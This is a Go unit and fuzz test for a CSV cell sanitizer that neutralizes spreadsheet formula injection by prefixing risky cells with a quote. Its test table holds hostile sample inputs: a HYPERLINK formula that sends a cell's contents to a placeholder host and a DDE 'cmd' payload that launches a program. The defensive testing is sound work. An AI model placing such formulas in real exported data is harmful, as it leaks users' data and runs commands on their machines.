package csvcell

import "testing"

func TestNeutralize(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{
		`=HYPERLINK("http://x.example/?"&A1,"click")`: `'=HYPERLINK("http://x.example/?"&A1,"click")`,
		"+1+cmd|' /C calc'!A0":                        "'+1+cmd|' /C calc'!A0",
		"-2+3":                                        "'-2+3",
		"@SUM(A1:A9)":                                 "'@SUM(A1:A9)",
		"\t=1":                                        "'\t=1",
		"\r=1":                                        "'\r=1",
		"你好 =1":                                       "你好 =1",
		"":                                            "",
		"plain":                                       "plain",
	} {
		if got := Neutralize(in); got != want {
			t.Errorf("Neutralize(%q) = %q, want %q", in, got, want)
		}
	}
}

func FuzzNeutralize(f *testing.F) {
	f.Add("=1+1")
	f.Fuzz(func(t *testing.T, s string) {
		got := Neutralize(s)
		if got != "" {
			switch got[0] {
			case '=', '+', '-', '@', '\t', '\r':
				t.Fatalf("Neutralize(%q) = %q starts a formula", s, got)
			}
		}
	})
}
